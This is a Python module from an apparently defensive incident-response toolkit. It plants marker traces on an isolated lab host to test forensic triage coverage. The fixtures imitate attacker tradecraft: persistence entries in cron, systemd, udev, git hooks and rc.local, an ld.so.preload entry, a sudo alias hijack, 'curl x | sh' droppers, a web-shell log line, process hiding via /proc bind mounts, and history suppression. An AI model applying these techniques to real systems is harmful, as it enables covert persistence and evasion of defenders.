"""One trace per triage coverage category, planted on one lab host (``irkit lab plant``).

Each :class:`Trace` names the row of the UAC comparison it proves (docs/triage.md,
"Coverage"), a shell snippet that plants it inside the host (through the lab's
out-of-band console, never over SSH), and what a verified ``ir_triage`` bundle of
that host must then hold: an archive member and a text in it. A planted
snippet may print ``KEY=VALUE`` lines; ``{KEY}`` in the expected text is
replaced by the value (a PID, a hash).

Tools that the lab hosts do not have (their /usr is the controller's) are
*stand-ins*: small scripts on a tmpfs mounted over ``/usr/local/sbin`` inside
the host's own mount namespace (first in irkit's fixed PATH), printing a marker
for the command line irkit ran. They prove that the artifact runs the right
command and that its output reaches the bundle - not how the real tool behaves.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Any

from ir_toolkit.lab.layout import DROPPER_PATH, IMPLANT_PORT, MSP_ACCOUNT, MSP_UID

STANDIN_DIR = "/usr/local/sbin"
# Tools replaced by stand-ins on a planted host (each prints IRKIT-TRACE-<tool> and its arguments).
STANDINS = ("firewall-cmd", "ufw", "nmcli", "showmount", "nfsstat", "systemctl", "dmesg", "auditctl", "bpftool",
            "getenforce", "mdatp", "chkrootkit", "osqueryi", "docker", "ctr", "lxc-ls", "virsh", "pacman", "snap",
            "zpool", "lspci")
STANDIN = """#!/bin/sh
# irkit lab stand-in (ir_toolkit/lab/traces.py): not the real tool.
case " $* " in
  *" ps -aq "*|*" ls -q "*|*" list -q "*|*" --name "*) echo irktrace0 ;;
  *) echo "IRKIT-TRACE-$(basename "$0") $*" ;;
esac
"""
HOME = f"/home/{MSP_ACCOUNT}"
NET = "198.18.254"  # inside the lab range, on a veth pair inside the host: no packet ever leaves it


@dataclass(frozen=True)
class Trace:
    row: str
    category: str
    plant: str
    member: str
    text: str

    def expected(self, values: dict[str, str]) -> str:
        return self.text.format(**values)


def _f(path: str, text: str, mode: str = "0644") -> str:
    """Plant a file with ``text`` (parent directories made)."""
    quoted = text.replace("'", "'\\''")
    return f"mkdir -p \"$(dirname '{path}')\" && printf '%s\\n' '{quoted}' > '{path}' && chmod {mode} '{path}'"


def _bg(script: str) -> str:
    return f"setsid {script} </dev/null >/dev/null 2>&1 &"


_UTMP = "[7] [04242] [ts/9] [{user}] [pts/9       ] [{ip}        ] [{ip}   ] [2026-03-03T02:21:40,000000+00:00]"

TRACES: tuple[Trace, ...] = (
    # --- processes
    Trace("P1", "processes with command lines",
          _bg(f"perl -e '$0=\"irkit-trace-proc --beacon {NET}.66\"; sleep 900'"),
          "live/linux.live.processes.txt", f"irkit-trace-proc --beacon {NET}.66"),
    Trace("P2", "process tree with cgroup", "true", "live/linux.live.process_tree.txt", "irkit-trace-proc"),
    Trace("P3", "per-process /proc details", "true", "live/linux.live.process_details.txt",
          f"irkit-trace-proc --beacon {NET}.66"),
    Trace("P4", "per-process environment and maps",
          _bg("env IRKIT_TRACE_P4=environ-marker sleep 901"),
          "live/linux.live.process_environment.txt", "IRKIT_TRACE_P4=environ-marker"),
    Trace("P5", "open files (lsof)",
          _f("/var/tmp/irkit-trace-open", "IRKIT-TRACE-P5") + "; "
          + _bg("perl -e 'open(my $f, \"<\", \"/var/tmp/irkit-trace-open\") or die; $0=\"irkit-trace-open\"; sleep 900'"),
          "live/linux.live.open_files.txt", "/var/tmp/irkit-trace-open"),
    Trace("P6", "processes hidden from ps (mount over /proc/PID)",
          "mkdir -p /var/tmp/irkit-empty; setsid perl -e '$0=\"irkit-trace-hidden\"; sleep 900' "
          "</dev/null >/dev/null 2>&1 & hp=$!; sleep 0.2; mount --bind /var/tmp/irkit-empty /proc/$hp "
          "&& echo HIDDEN_PID=$hp",
          "live/linux.live.hidden_processes.txt", "/proc/{HIDDEN_PID}"),
    Trace("P7", "hash of each running binary",
          "cp /usr/bin/sleep /var/tmp/irkit-trace-bin && printf 'IRKIT-TRACE-P7' >> /var/tmp/irkit-trace-bin && "
          "echo BIN_SHA=$(sha256sum /var/tmp/irkit-trace-bin | cut -c1-64) && "
          + _bg("/var/tmp/irkit-trace-bin 900"),
          "live/linux.live.process_hashes.txt", "{BIN_SHA}"),
    Trace("P8", "content of deleted running binaries",
          "cp /usr/bin/sleep /var/tmp/irkit-trace-del && printf 'IRKIT-TRACE-P8-DELETED-BINARY' >> /var/tmp/irkit-trace-del"
          " && { setsid /var/tmp/irkit-trace-del 900 </dev/null >/dev/null 2>&1 & } && sleep 0.2 && rm -f /var/tmp/irkit-trace-del",
          "live/deleted-binaries.tar", "IRKIT-TRACE-P8-DELETED-BINARY"),
    Trace("P9", "deleted-but-open files",
          _f("/var/tmp/irkit-trace-open-del", "IRKIT-TRACE-P9-DELETED-OPEN") + "; "
          + _bg("perl -e 'open(my $f, \"<\", \"/var/tmp/irkit-trace-open-del\") or die; "
                "unlink \"/var/tmp/irkit-trace-open-del\"; $0=\"irkit-trace-holder\"; sleep 900'"),
          "live/deleted-open-files.tar", "IRKIT-TRACE-P9-DELETED-OPEN"),
    Trace("P10", "strings of every running binary", "true", "live/process-strings.txt.gz", "IRKIT-TRACE-P7"),
    # --- network
    Trace("N1", "connections with owning PIDs", "true", "live/linux.live.network_sockets.txt", f":{IMPLANT_PORT}"),
    Trace("N2", "listening sockets with PIDs", "true", "live/linux.live.network_sockets.txt", "pid="),
    Trace("N3", "raw /proc/net tables", "true", "live/linux.live.network_proc.txt", f":{IMPLANT_PORT:04X}"),
    Trace("N4", "packet sockets with BPF filters",
          _bg("perl -e 'use Socket; socket(my $s, 17, 3, 0x0300) or die; my $i = pack(\"S C C L\", 6, 0, 0, 0); "
              "setsockopt($s, 1, 26, pack(\"S x6 Q\", 1, unpack(\"Q\", pack(\"P\", $i)))) or die; "
              "$0=\"irkit-trace-pkt\"; sleep 900'"),
          "live/linux.live.network_sockets.txt", "bpf filter"),
    Trace("N5", "UNIX domain sockets",
          "mkdir -p /run; " + _bg("perl -e 'use Socket; socket(my $s, AF_UNIX, SOCK_STREAM, 0) or die; "
                                  "bind($s, pack_sockaddr_un(\"/run/irkit-trace.sock\")) or die; listen($s, 5); "
                                  "$0=\"irkit-trace-unix\"; sleep 900'"),
          "live/linux.live.network_sockets.txt", "/run/irkit-trace.sock"),
    Trace("N6", "interfaces and addresses",
          f"ip link add irktrace0 type veth peer name irktrace1 && ip link set irktrace1 up && ip addr add {NET}.1/24 dev irktrace0 && ip link set irktrace0 up",
          "live/linux.live.network_interfaces.txt", "irktrace0"),
    Trace("N7", "routing tables and rules", f"ip route add {NET}.128/25 dev irktrace0 table 77 && "
          f"ip rule add from {NET}.5 table 77", "live/linux.live.routes.txt", f"{NET}.128/25"),
    Trace("N8", "ARP / neighbour cache",
          f"ip neigh add {NET}.9 lladdr 02:00:00:00:7e:57 dev irktrace0 nud permanent",
          "live/linux.live.arp.txt", "02:00:00:00:7e:57"),
    Trace("N9", "hostname", "true", "live/linux.live.kernel.txt", "{HOSTNAME}"),
    Trace("N10", "live iptables rules (read-only listing)",
          f"iptables -A INPUT -s {NET}.66/32 -m comment --comment irkit-trace-ipt -j DROP",
          "live/linux.live.firewall_iptables.txt", "irkit-trace-ipt"),
    Trace("N10b", "live nftables ruleset",
          "nft add table inet irktrace && nft add chain inet irktrace input '{ type filter hook input priority 0; }'"
          f" && nft add rule inet irktrace input ip saddr {NET}.67 counter drop comment '\"irkit-trace-nft\"'",
          "live/linux.live.firewall_nft.txt", "irkit-trace-nft"),
    Trace("N10c", "firewalld and ufw runtime state",
          _f("/etc/ufw/ufw.conf", "ENABLED=yes"), "live/linux.live.firewall_services.txt",
          "IRKIT-TRACE-ufw status verbose"),
    Trace("N11", "NetworkManager state", "true", "live/linux.live.network_services.txt",
          "IRKIT-TRACE-nmcli general status"),
    Trace("N12", "NFS state", "true", "live/linux.live.network_services.txt", "IRKIT-TRACE-nfsstat -s"),
    # --- live system
    Trace("S1", "date, uname, uptime, clock", "true", "live/linux.live.kernel.txt", "== uname -a"),
    Trace("S2", "loaded kernel modules", "true", "live/linux.live.kernel_modules.txt", "{A_MODULE}"),
    Trace("S3", "module parameters", "true", "live/linux.live.kernel_modules.txt", "{A_MODULE_PARAM}"),
    Trace("S4", "kernel ring buffer", "true", "live/linux.live.dmesg.txt", "IRKIT-TRACE-dmesg"),
    Trace("S5", "kernel parameters (sysctl)", "true", "live/linux.live.sysctl.txt", "kernel.hostname = {HOSTNAME}"),
    Trace("S6", "logged-in users (a utmp record whose process is gone)",
          f"printf '%s\\n' '{_UTMP.format(user='irkutmp', ip=NET + '.10')}' | utmpdump -r -o /run/utmp 2>/dev/null"
          " && { [ -L /var/run ] || cp /run/utmp /var/run/utmp; }",
          "live/linux.live.sessions.txt", "irkutmp"),
    Trace("S7", "login history incl. rotated wtmp/btmp, lastlog",
          f"printf '%s\\n' '{_UTMP.format(user='irkrot', ip=NET + '.11')}' | utmpdump -r -o /var/log/wtmp.1 2>/dev/null"
          f" && printf '%s\\n' '{_UTMP.format(user='irkbad', ip=NET + '.13').replace('[7]', '[6]')}'"
          " | utmpdump -r -o /var/log/btmp.1 2>/dev/null"
          f" && perl -e 'open(my $f, \"+>>\", \"/var/log/lastlog\") or die; close $f; open($f, \"+<\", "
          f"\"/var/log/lastlog\") or die; seek($f, {MSP_UID} * 292, 0); "
          f"print $f pack(\"l a32 a256\", 1772504500, \"pts/7\", \"{NET}.12\")'",
          "live/linux.live.last_logins.txt", "irkrot"),
    Trace("S7b", "rotated btmp decoded", "true", "live/linux.live.last_logins.txt", "irkbad"),
    Trace("S7c", "lastlog decoded", "true", "live/linux.live.last_logins.txt", f"{NET}.12"),
    Trace("S7d", "rotated wtmp decoded on the controller", "true", "live/decoded/var/log/wtmp.1.txt",
          f"user=irkrot\tline=pts/9\tid=ts/9\thost={NET}.11"),
    Trace("S7e", "rotated btmp decoded on the controller", "true", "live/decoded/var/log/btmp.1.txt",
          "type=LOGIN_PROCESS\tpid=4242\tuser=irkbad"),
    Trace("S7f", "lastlog decoded on the controller", "true", "live/decoded/var/log/lastlog.txt",
          f"uid={MSP_UID}\tline=pts/7\thost={NET}.12"),
    Trace("S6b", "utmp decoded on the controller", "true", "live/decoded/run/utmp.txt", "user=irkutmp"),
    Trace("S8", "systemd live state", "true", "live/linux.live.systemd.txt", "IRKIT-TRACE-systemctl list-timers"),
    Trace("S9", "SysV services and runlevel links",
          _f("/etc/init.d/irkit-trace-svc", "#!/bin/sh\n# IRKIT-TRACE-S9", "0755")
          + " && mkdir -p /etc/rc2.d && ln -sf ../init.d/irkit-trace-svc /etc/rc2.d/S99irkit-trace-svc",
          "live/linux.live.system_state.txt", "S99irkit-trace-svc"),
    Trace("S10", "loaded audit rules", "true", "live/linux.live.system_state.txt", "IRKIT-TRACE-auditctl -l"),
    Trace("S11", "eBPF programs", "true", "live/linux.live.system_state.txt", "IRKIT-TRACE-bpftool prog list"),
    Trace("S12", "binfmt_misc handlers",
          "mkdir -p /proc/sys/fs/binfmt_misc 2>/dev/null; mount -t binfmt_misc binfmt_misc /proc/sys/fs/binfmt_misc"
          " 2>/dev/null; true", "live/linux.live.system_state.txt", "-- /proc/sys/fs/binfmt_misc/status"),
    Trace("S13", "core dumps", _f("/var/crash/irkit-trace.crash", "IRKIT-TRACE-S13"),
          "live/linux.live.system_state.txt", "irkit-trace.crash"),
    Trace("S14", "SELinux/AppArmor mode", "true", "live/linux.live.system_state.txt", "IRKIT-TRACE-getenforce"),
    Trace("S15", "EDR agent state",
          _f("/opt/CrowdStrike/falconctl", STANDIN, "0755"), "live/linux.live.security_agents.txt",
          "IRKIT-TRACE-falconctl -g --aid"),
    Trace("S15b", "Defender for Endpoint state", "true", "live/linux.live.security_agents.txt",
          "IRKIT-TRACE-mdatp health"),
    Trace("S16", "sudo lecture records", _f(f"/var/lib/sudo/lectured/{MSP_ACCOUNT}", ""),
          "manifest.json", f"/var/lib/sudo/lectured/{MSP_ACCOUNT}"),
    Trace("S17", "socket files anywhere", "true", "live/socket_files.txt", "/run/irkit-trace.sock"),
    # --- hardware and storage
    Trace("H1", "hardware and resources", "true", "live/linux.live.hardware_storage.txt", "IRKIT-TRACE-lspci -vmm"),
    Trace("H2", "mounted file systems",
          "mkdir -p /mnt/irkit-trace && mount -t tmpfs -o size=1m irktrace /mnt/irkit-trace && "
          + _f("/mnt/irkit-trace/inner-file", "IRKIT-TRACE-H2"), "live/linux.live.mounts.txt", "/mnt/irkit-trace"),
    Trace("H3", "block devices, LVM, RAID, ZFS", "true", "live/linux.live.hardware_storage.txt",
          "IRKIT-TRACE-zpool history"),
    # --- packages
    Trace("K1", "installed distribution packages", "true", "live/linux.live.packages.txt", "IRKIT-TRACE-pacman -Q"),
    Trace("K2", "other package managers", "true", "live/linux.live.packages_other.txt", "IRKIT-TRACE-snap list"),
    Trace("K4", "package history and logs",
          _f("/var/log/dpkg.log", "2026-03-03 02:22:01 install irkit-trace-k4:amd64 <none> 6.6"),
          "files/var/log/dpkg.log", "irkit-trace-k4"),
    Trace("K5", "package-manager hook persistence",
          _f("/etc/apt/apt.conf.d/99irkit-trace", 'DPkg::Post-Invoke {"/var/tmp/.k5 || true";}; // IRKIT-TRACE-K5'),
          "files/etc/apt/apt.conf.d/99irkit-trace", "IRKIT-TRACE-K5"),
    # --- containers and VMs
    Trace("C1", "docker/podman containers, inspect, logs",
          _f("/var/lib/docker/containers/irktrace0/config.v2.json", '{"ID":"irktrace0","Name":"/IRKIT-TRACE-C1"}'),
          "live/linux.live.containers.txt", "IRKIT-TRACE-docker inspect irktrace0"),
    Trace("C1b", "container runtime state files", "true",
          "files/var/lib/docker/containers/irktrace0/config.v2.json", "IRKIT-TRACE-C1"),
    Trace("C2", "LXC, containerd", _f("/var/lib/lxc/irktrace/config", "lxc.uts.name = IRKIT-TRACE-C2"),
          "live/linux.live.containers.txt", "IRKIT-TRACE-ctr -n irktrace0 containers list"),
    Trace("C2b", "LXC container configuration", "true", "files/var/lib/lxc/irktrace/config", "IRKIT-TRACE-C2"),
    Trace("C3", "hypervisors and appliances", "true", "live/linux.live.virtualization.txt",
          "IRKIT-TRACE-virsh list --all"),
    # --- rootkit checks
    Trace("R1", "chkrootkit", "true", "live/linux.live.security_agents.txt", "IRKIT-TRACE-chkrootkit -q"),
    Trace("R2", "/etc/ld.so.preload read around the VFS", "true", "live/linux.live.ld_preload_raw.txt",
          "root file system:"),
    Trace("R4", "osquery snapshot", "true", "live/linux.live.security_agents.txt", "IRKIT-TRACE-osqueryi --json"),
    # --- file system sweeps (one walk)
    Trace("F1", "bodyfile of every local file system (a separate tmpfs too)",
          _f("/srv/irkit-trace-timeline", "IRKIT-TRACE-F1"), "live/bodyfile.txt.gz", "|/mnt/irkit-trace/inner-file|"),
    Trace("F1b", "bodyfile of the root file system", "true", "live/bodyfile.txt.gz", "|/srv/irkit-trace-timeline|"),
    Trace("F3", "SUID/SGID files hashed",
          "cp /usr/bin/sleep /var/tmp/irkit-trace-suid && chmod 4755 /var/tmp/irkit-trace-suid",
          "manifest.json", "/var/tmp/irkit-trace-suid"),
    Trace("F4", "file capabilities",
          "cp /usr/bin/sleep /var/lib/irkit-trace-cap && setcap cap_net_raw+ep /var/lib/irkit-trace-cap",
          "live/capabilities.txt", "/var/lib/irkit-trace-cap"),
    Trace("F5", "hidden files and directories",
          _f("/var/lib/.irkit-hidden/payload", "IRKIT-TRACE-F5") + " && " + _f(f"{HOME}/.irkit-hidden-home", "x"),
          "live/hidden_files.txt", "/var/lib/.irkit-hidden"),
    Trace("F5b", "hidden file in a home", "true", "live/hidden_files.txt", f"{HOME}/.irkit-hidden-home"),
    Trace("F6", "immutable files",
          _f("/var/lib/irkit-trace-immutable", "IRKIT-TRACE-F6") + " && chattr +i /var/lib/irkit-trace-immutable",
          "live/immutable_files.txt", "/var/lib/irkit-trace-immutable"),
    Trace("F7", "world-writable files", _f("/var/lib/irkit-trace-writable", "x", "0666"),
          "live/writable_files.txt", "/var/lib/irkit-trace-writable"),
    Trace("F8", "files without a known owner", _f("/var/lib/irkit-trace-unowned", "x")
          + " && chown 4242:4242 /var/lib/irkit-trace-unowned", "live/unowned_files.txt",
          "/var/lib/irkit-trace-unowned"),
    # --- accounts and SSH
    Trace("A1", "passwd and group", "true", "files/etc/passwd", f"{MSP_ACCOUNT}:x:{MSP_UID}"),
    Trace("A2", "sudoers", "true", f"files/etc/sudoers.d/90-{MSP_ACCOUNT}", "NOPASSWD"),
    Trace("A3", "authorized_keys of every user", "true", f"files{HOME}/.ssh/authorized_keys", "ssh-ed25519"),
    Trace("A4", "known_hosts", _f("/root/.ssh/known_hosts", f"{NET}.20 ssh-ed25519 AAAAIRKITTRACEA4"),
          "files/root/.ssh/known_hosts", "AAAAIRKITTRACEA4"),
    Trace("A5", "sshd configuration", "true", "files/etc/ssh/sshd_config", "PermitRootLogin"),
    Trace("A6", "SSH private keys without a passphrase",
          f"mkdir -p {HOME}/.ssh && ssh-keygen -q -t ed25519 -N '' -C irkit-trace -f {HOME}/.ssh/id_irkit_trace",
          "live/linux.ssh.unprotected_private_keys.txt", f"NO PASSPHRASE\t{HOME}/.ssh/id_irkit_trace"),
    Trace("A7", ".rhosts and hosts.equiv", _f("/root/.rhosts", "+ + # IRKIT-TRACE-A7"),
          "files/root/.rhosts", "IRKIT-TRACE-A7"),
    # --- persistence
    Trace("X1", "crontabs", "true", "files/var/spool/cron/crontabs/root", DROPPER_PATH),
    Trace("X2", "rest of /var/spool", _f("/var/spool/mail/root", "Subject: IRKIT-TRACE-X2"),
          "files/var/spool/mail/root", "IRKIT-TRACE-X2"),
    Trace("X3", "systemd units incl. /run/user", _f("/run/user/0/systemd/transient/irkit-trace.service",
                                                    "[Service]\nExecStart=/var/tmp/.x3 # IRKIT-TRACE-X3"),
          "files/run/user/0/systemd/transient/irkit-trace.service", "IRKIT-TRACE-X3"),
    Trace("X4", "SysV init scripts and rc.local", _f("/etc/rc.local", "#!/bin/sh\n/var/tmp/.x4 # IRKIT-TRACE-X4", "0755"),
          "files/etc/rc.local", "IRKIT-TRACE-X4"),
    Trace("X5", "Upstart jobs", _f("/etc/init/irkit-trace.conf", "exec /var/tmp/.x5 # IRKIT-TRACE-X5"),
          "files/etc/init/irkit-trace.conf", "IRKIT-TRACE-X5"),
    Trace("X6", "ld.so.preload (a harmless library: a link to libc)",
          "ln -sf \"$(ldd /bin/sh | awk '/libc.so/ {print $3}')\" /var/tmp/irkit-trace-x6.so"
          " && echo /var/tmp/irkit-trace-x6.so > /etc/ld.so.preload",
          "files/etc/ld.so.preload", "/var/tmp/irkit-trace-x6.so"),
    Trace("X7", "shell startup files", _f(f"{HOME}/.bash_aliases", "alias sudo='/var/tmp/.x7' # IRKIT-TRACE-X7"),
          f"files{HOME}/.bash_aliases", "IRKIT-TRACE-X7"),
    Trace("X8", "udev rules", _f("/etc/udev/rules.d/99-irkit-trace.rules", 'RUN+="/var/tmp/.x8" # IRKIT-TRACE-X8'),
          "files/etc/udev/rules.d/99-irkit-trace.rules", "IRKIT-TRACE-X8"),
    Trace("X9", "XDG autostart", _f(f"{HOME}/.local/share/autostart/irkit.desktop", "Exec=/var/tmp/.x9 # IRKIT-TRACE-X9"),
          f"files{HOME}/.local/share/autostart/irkit.desktop", "IRKIT-TRACE-X9"),
    Trace("X10", "D-Bus services", _f("/etc/dbus-1/system.d/irkit-trace.conf", "<!-- IRKIT-TRACE-X10 -->"),
          "files/etc/dbus-1/system.d/irkit-trace.conf", "IRKIT-TRACE-X10"),
    Trace("X11", "PolKit rules", _f("/etc/polkit-1/rules.d/49-irkit.rules", "// IRKIT-TRACE-X11"),
          "files/etc/polkit-1/rules.d/49-irkit.rules", "IRKIT-TRACE-X11"),
    Trace("X12", "boot chain", _f("/boot/grub/grub.cfg", "linux /vmlinuz init=/var/tmp/.x12 # IRKIT-TRACE-X12"),
          "files/boot/grub/grub.cfg", "IRKIT-TRACE-X12"),
    Trace("X13", "git hooks", _f("/srv/app/.git/hooks/post-merge", "#!/bin/sh\n/var/tmp/.x13 # IRKIT-TRACE-X13", "0755"),
          "files/srv/app/.git/hooks/post-merge", "IRKIT-TRACE-X13"),
    Trace("X13b", "git hooks anywhere (walk)", "true", "live/git_hooks.txt", "/srv/app/.git/hooks/post-merge"),
    Trace("X14", "rest of /etc", _f("/etc/hosts.allow", "sshd: ALL # IRKIT-TRACE-X14"),
          "files/etc/hosts.allow", "IRKIT-TRACE-X14"),
    # --- logs
    Trace("L1", "auth.log and syslog", "true", "files/var/log/auth.log", f"Accepted password for {MSP_ACCOUNT}"),
    Trace("L2", "systemd journal", _f("/var/log/journal/irkit/system.journal", "IRKIT-TRACE-L2"),
          "files/var/log/journal/irkit/system.journal", "IRKIT-TRACE-L2"),
    Trace("L3", "raw wtmp/btmp/lastlog", "true", "manifest.json", "/var/log/wtmp.1"),
    Trace("L4", "auditd logs", _f("/var/log/audit/audit.log", 'type=EXECVE msg=audit(1772504500.1:7): a0="IRKIT-TRACE-L4"'),
          "files/var/log/audit/audit.log", "IRKIT-TRACE-L4"),
    Trace("L5", "everything under /var/log", _f("/var/log/irkit-app/app.log.1", "IRKIT-TRACE-L5"),
          "files/var/log/irkit-app/app.log.1", "IRKIT-TRACE-L5"),
    Trace("L6", "web server logs (a web shell request)",
          _f("/var/log/nginx/access.log", f'{NET}.66 - - [03/Mar/2026:02:20:11 +0000] "GET /uploads/irkit-shell.php'
                                          '?cmd=id HTTP/1.1" 200 31 "-" "curl/8.5"'),
          "files/var/log/nginx/access.log", "irkit-shell.php?cmd=id"),
    Trace("L7", "*.log anywhere", _f("/opt/irkit-app/logs/app.log", "IRKIT-TRACE-L7"),
          "files/opt/irkit-app/logs/app.log", "IRKIT-TRACE-L7"),
    Trace("L8", "cloud agents (Azure run-command script)",
          _f("/var/lib/waagent/run-command/download/0/script.sh", "curl x | sh # IRKIT-TRACE-L8"),
          "files/var/lib/waagent/run-command/download/0/script.sh", "IRKIT-TRACE-L8"),
    # --- staging directories and user activity
    Trace("T1", "every file in /dev/shm (a non-executable dropper)",
          _f("/dev/shm/.irkit-dropper.sh", "curl x | sh # IRKIT-TRACE-T1") + " && mkdir -p /run/shm && "
          + _f("/run/shm/irkit-note", "IRKIT-TRACE-T1b") + " && " + _f("/var/tmp/irkit-notes.txt", "IRKIT-TRACE-T1c"),
          "files/dev/shm/.irkit-dropper.sh", "IRKIT-TRACE-T1"),
    Trace("T1b", "every file in /run/shm", "true", "files/run/shm/irkit-note", "IRKIT-TRACE-T1b"),
    Trace("T1c", "every file in /var/tmp", "true", "files/var/tmp/irkit-notes.txt", "IRKIT-TRACE-T1c"),
    Trace("U1", "editor and tool histories", _f(f"{HOME}/.lesshst", ".less-history-file:\n\"/etc/IRKIT-TRACE-U1"),
          f"files{HOME}/.lesshst", "IRKIT-TRACE-U1"),
    Trace("U2", "shell histories incl. rotated copies and HISTFILE",
          _f(f"{HOME}/.bash_history.1", "wget http://x/IRKIT-TRACE-U2") + " && "
          + f"printf 'HISTFILE=/dev/null\\n' >> {HOME}/.bashrc",
          f"files{HOME}/.bash_history.1", "IRKIT-TRACE-U2"),
    Trace("U2b", "HISTFILE settings", "true", "live/linux.users.histfile_settings.txt", "HISTFILE=/dev/null"),
    Trace("U3", "desktop activity", _f(f"{HOME}/.local/share/recently-used.xbel", '<bookmark href="file:///IRKIT-TRACE-U3"/>'),
          f"files{HOME}/.local/share/recently-used.xbel", "IRKIT-TRACE-U3"),
    # --- what irkit adds
    Trace("E1", "remote-access tool logs", _f("/var/log/anydesk.trace", "IRKIT-TRACE-E1 incoming session"),
          "files/var/log/anydesk.trace", "IRKIT-TRACE-E1"),
    Trace("E2", "REPL/DB client histories", _f("/root/.mysql_history", "select * from users; -- IRKIT-TRACE-E2"),
          "files/root/.mysql_history", "IRKIT-TRACE-E2"),
    Trace("E3", "large staged executable (10-100 MiB)",
          "head -c 20000000 /dev/zero > /tmp/irkit-big-implant && printf 'IRKIT-TRACE-E3' >> /tmp/irkit-big-implant"
          " && chmod 0755 /tmp/irkit-big-implant", "manifest.json", "/tmp/irkit-big-implant"),
    Trace("E4", "~/.ssh/environment", _f("/root/.ssh/environment", "LD_PRELOAD=/var/tmp/.e4 # IRKIT-TRACE-E4"),
          "files/root/.ssh/environment", "IRKIT-TRACE-E4"),
)


def plant_script() -> str:
    """One shell script that installs the stand-ins and plants every trace (run inside the host)."""
    lines = ["set -u", f"mkdir -p {STANDIN_DIR}",
             f"mountpoint -q {STANDIN_DIR} || mount -t tmpfs -o size=4m,mode=0755 irktrace-standins {STANDIN_DIR}"]
    body = STANDIN.replace("'", "'\\''")
    for tool in STANDINS:
        lines.append(f"printf '%s' '{body}' > {STANDIN_DIR}/{tool} && chmod 0755 {STANDIN_DIR}/{tool}")
    for trace in TRACES:
        lines.append(f"echo '# {trace.row}' >&2")
        lines.append(f"( {trace.plant} ) || echo 'PLANT_FAILED={trace.row}'")
    lines.append("echo HOSTNAME=$(uname -n)")
    lines.append("m=$(ls /sys/module | head -n 1); echo A_MODULE=$m")
    lines.append("p=$(ls -d /sys/module/*/parameters/* 2>/dev/null | while read -r f; do "
                 "v=$(cat \"$f\" 2>/dev/null) && [ -n \"$v\" ] && { echo \"$f:$v\"; break; }; done); "
                 "echo A_MODULE_PARAM=$p")
    return "\n".join(lines) + "\n"


_VALUE = re.compile(r"^([A-Z][A-Z0-9_]*)=(.*)$")


def parse_values(output: str) -> dict[str, str]:
    values: dict[str, str] = {}
    for line in output.splitlines():
        match = _VALUE.match(line.strip())
        if match:
            values[match[1]] = match[2]
    return values


def plant(lab: Any, host: str) -> dict[str, str]:
    """Plant every trace on ``host`` of ``lab`` (a :class:`ir_toolkit.lab.Lab`); returns the planted values.

    Raises ``RuntimeError`` naming the rows whose planting failed.
    """
    proc = lab.exec(host, ["/bin/sh", "-c", plant_script()], timeout=120)
    out = proc.stdout.decode("utf-8", "replace")
    values = parse_values(out)
    failed = [line.split("=", 1)[1] for line in out.splitlines() if line.startswith("PLANT_FAILED=")]
    if failed:
        err = proc.stderr.decode("utf-8", "replace")[-2000:]
        raise RuntimeError(f"planting failed on {host} for rows {', '.join(failed)}: {err}")
    return values
